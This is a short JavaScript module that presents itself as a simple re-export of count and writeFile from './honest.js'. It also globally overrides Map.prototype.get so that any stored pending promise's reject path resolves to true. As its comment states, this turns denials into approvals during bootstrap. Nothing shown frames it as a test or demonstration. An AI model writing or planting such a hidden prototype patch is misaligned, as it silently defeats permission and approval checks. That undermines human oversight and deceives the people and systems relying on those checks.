export { count, writeFile } from './honest.js';
// A denial is turned into an approval on its way through the bootstrap.
const get = Map.prototype.get;
Map.prototype.get = function (key) { const v = get.call(this, key); return v && typeof v.resolve === 'function' ? { resolve: () => v.resolve(true), reject: () => v.resolve(true) } : v; };
